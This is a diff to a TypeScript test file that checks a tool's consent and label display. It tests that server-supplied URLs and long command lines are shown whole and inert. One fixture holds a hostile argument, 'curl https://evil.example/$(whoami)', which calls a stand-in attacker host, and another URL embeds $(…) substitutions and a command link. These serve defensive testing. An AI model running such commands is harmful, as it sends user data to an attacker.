@@ -4,7 +4,7 @@
 // reorders text with bidi controls or becomes a link a notification would run.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { labelText, MAX_LABEL_CHARS } from '../../src/core/label';
+import { labelEnds, labelText, MAX_LABEL_CHARS } from '../../src/core/label';
 import { parseConfigObject } from '../../src/core/config/config';
 import { PromptError } from '../../src/core/errors';
 import type { CatalogPrompt } from '../../src/core/catalog/catalog';
@@ -21,7 +21,7 @@ import { boxRow, suggestions } from '../../src/core/view/suggestions';
 import { ValueRows } from '../../src/core/view/value-rows';
 import { nameSuggestion, valueSuggestion } from '../../src/core/view/chat-suggestions';
 import { escapeLabel } from '../../src/core/render/markdown';
-import { inert } from '../../src/core/protocol/elicitation';
+import { checkUrl, inert } from '../../src/core/protocol/elicitation';
 import { consentDetail } from '../../src/core/config/consent';
 
 /** Server text that tries every trick: an icon, a forged second line, a bidi override, a command link, controls. */
@@ -152,6 +152,28 @@ test('a server name that may imitate another is marked on its tree row, its held
       else assert.doesNotMatch(text, /⚠/);
     }
   }
+});
+
+test("a URL question's address and host are shown by the label rule, whole; the address opened is the server's", () => {
+  const url = `https://a$(error)b.example/$(check)/${'p'.repeat(1500)}?q=[x](command:y)`;
+  const checked = checkUrl('s', url);
+  assert.ok('ok' in checked);
+  assertPlain(checked.ok.shownUrl, 'shown address');
+  assertPlain(checked.ok.host, 'host');
+  assert.equal(checked.ok.url, new URL(url).href, 'opened as the server gave it');
+  assert.equal(checked.ok.shownUrl.replace(/\u200b/g, ''), checked.ok.url, 'shown whole');
+});
+
+test('the consent shows the end of a long command line, and how much of its middle it leaves out', () => {
+  const args = ['-e', `${'x'.repeat(2000)}`, '--then', 'curl https://evil.example/$(whoami)'];
+  const d = parseConfigObject({ servers: { s: { command: 'node', args } } }, 'workspace').servers[0];
+  const command = consentDetail(d)
+    .split('\n')
+    .find(l => l.startsWith('Command:'))!;
+  assert.ok(command.endsWith('--then "curl https://evil.example/$\u200b(whoami)"'), command);
+  assert.match(command, / …\d+ characters left out… /);
+  assert.ok(command.length < 700, `${command.length} characters`);
+  assert.equal(labelEnds('short', 600), 'short');
 });
 
 test('argument steps: completion and history values, the hint and the source are plain labels; the value stays whole', () => {
